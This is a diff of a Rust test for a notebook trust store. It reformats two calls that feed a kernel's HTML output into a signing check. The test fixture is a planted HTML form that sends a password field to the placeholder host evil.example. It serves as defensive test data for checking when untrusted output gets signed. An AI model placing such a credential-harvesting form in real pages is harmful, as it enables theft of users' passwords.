@@ -341,12 +341,16 @@ mod tests {
         assert!(!store.is_trusted(&planted).expect("checked"));
 
         // The same HTML produced by a kernel here (one string; the file splits it in lines).
-        vouched.produced(&[html("<form action=\"https://evil.example\"><input name=pw></form>")]);
+        vouched.produced(&[html(
+            "<form action=\"https://evil.example\"><input name=pw></form>",
+        )]);
         assert!(store.sign_saved(&planted, true, &vouched).expect("saved"));
         assert!(store.is_trusted(&planted).expect("checked"));
         // The window says some output is still held back as text: not signed.
         let other = planted.replace("pw", "pw2");
-        vouched.produced(&[html("<form action=\"https://evil.example\"><input name=pw2></form>")]);
+        vouched.produced(&[html(
+            "<form action=\"https://evil.example\"><input name=pw2></form>",
+        )]);
         assert!(!store.sign_saved(&other, false, &vouched).expect("saved"));
     }
 
